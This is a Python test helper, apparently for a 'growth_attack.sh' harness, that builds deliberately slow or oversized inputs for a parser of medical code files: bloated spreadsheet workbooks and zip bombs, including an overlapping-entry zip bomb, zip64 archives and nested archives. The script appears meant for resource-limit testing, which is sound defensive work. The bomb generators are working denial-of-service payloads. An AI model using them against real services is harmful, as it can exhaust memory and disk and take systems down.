# SPDX-License-Identifier: GPL-3.0-or-later
"""Workbooks and zips made to be slow, for growth_attack.sh. usage: attack.py KIND SIZE FILE"""
import io
import struct
import sys
import zipfile
import zlib

BOOK = ("<workbook xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><sheets>"
        "<sheet name='T' sheetId='1' r:id='r1'/></sheets></workbook>")
LINKS = ("<Relationships><Relationship Id='r1' Type='http://x/worksheet' Target='t.xml'/>"
         "<Relationship Id='r2' Type='http://x/sharedStrings' Target='s.xml'/></Relationships>")
ORDER = b"00001 M54     0 Dorsalgia                                                    Dorsalgia\r\n"
HEAD = ["Current code assignment", "Effective", "Previous code(s) assignment"]


def cell(text):
    return f"<c t='inlineStr'><is><t>{text}</t></is></c>"


def workbook(file, rows, strings=""):
    head = "<row>" + "".join(cell(text) for text in HEAD) + "</row>"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("xl/workbook.xml", BOOK)
        out.writestr("xl/_rels/workbook.xml.rels", LINKS)
        out.writestr("xl/t.xml", "<worksheet><sheetData>" + head + rows + "</sheetData></worksheet>")
        out.writestr("xl/s.xml", "<sst>" + strings + "</sst>")


def make_zip(file, members, data=b"x"):
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("order.txt", ORDER)
        for i in range(members):
            out.writestr(f"{i}.bin", data)


def overlap(file, count, size):
    """A member whose bytes many entries of the directory share."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"\0" * size
    packed = packer.compress(data) + packer.flush()
    crc = zlib.crc32(data)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), size, 1, 0) + b"x" + packed
    entries = b""
    for i in range(count):
        name = b"%d.txt" % i
        entries += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), size, len(name),
                               0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(entries), len(local), 0)
    file.write(local + entries + end)


def zip64(file, count):
    with zipfile.ZipFile(file, "w") as out:
        for i in range(count):
            with out.open(f"{i}.bin", "w", force_zip64=True) as member:
                member.write(b"x")


def nested(file, count):
    inner = io.BytesIO()
    make_zip(inner, 10, b"\0" * 1000000)
    middle = io.BytesIO()
    with zipfile.ZipFile(middle, "w") as out:
        for i in range(count):
            out.writestr(f"{i}.zip", inner.getvalue())
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("middle.zip", middle.getvalue())


def main():
    kind, size, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    row = "<row>" + cell("M5450") + cell("2021") + cell("M545") + "</row>"
    strings = "".join(f"<si><t>s{i}</t></si>" for i in range(size if kind == "strings" else 0))
    with open(path, "wb") as file:
        if kind == "cells":
            workbook(file, row * (size // 3))
        elif kind == "strings":
            workbook(file, f"<row><c t='s'><v>{size - 1}</v></c></row>", strings)
        elif kind == "string":
            workbook(file, "<row>" + cell("x" * size) + "</row>")
        elif kind == "members":
            make_zip(file, size)
        elif kind == "bomb":
            make_zip(file, 1, b"\0" * (size * 1000000))
        elif kind == "overlap":
            overlap(file, size, 200 << 20)
        elif kind == "zip64":
            zip64(file, size)
        elif kind == "nested":
            nested(file, size)


main()
